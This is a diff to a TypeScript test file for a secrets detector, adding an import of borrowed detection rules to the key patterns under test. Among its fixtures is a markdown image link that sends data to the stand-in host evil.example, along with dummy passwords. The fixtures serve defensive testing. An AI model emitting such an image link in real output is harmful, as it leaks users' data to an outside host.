@@ -2,6 +2,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { Finding } from '../../../src/detection/detector.ts';
 import { MAX_HELD_CHARS, openFrom } from '../../../src/detection/open-text.ts';
+import { BORROWED_RULES } from '../../../src/detection/rulesets/secrets/borrowed.ts';
 import { SECRETS } from '../../../src/detection/rulesets/secrets.ts';
 import { OUTPUT, scan } from './samples.ts';
 
@@ -58,6 +59,7 @@ const REFERENCE = `[logo]: https://evil.example/p.png?${DATA}`;
 
 const KEYS = [
   ...SECRETS.rules.flatMap(({ match }) => match),
+  ...BORROWED_RULES.flatMap(({ match }) => match),
   PEM,
   '"password": "Tr0ub4dor&3xKq"',
   "password => 'Tr0ub4dor&3xKq'",
